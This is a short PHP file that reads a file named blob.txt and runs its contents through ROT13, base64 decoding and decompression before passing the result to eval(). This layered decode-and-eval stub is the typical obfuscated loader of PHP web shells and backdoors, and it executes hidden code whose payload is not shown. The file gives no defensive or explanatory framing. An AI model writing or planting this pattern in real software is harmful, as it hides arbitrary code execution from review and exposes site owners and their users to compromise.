<?php
$blob = file_get_contents("blob.txt");
eval(gzinflate(base64_decode(str_rot13($blob))));
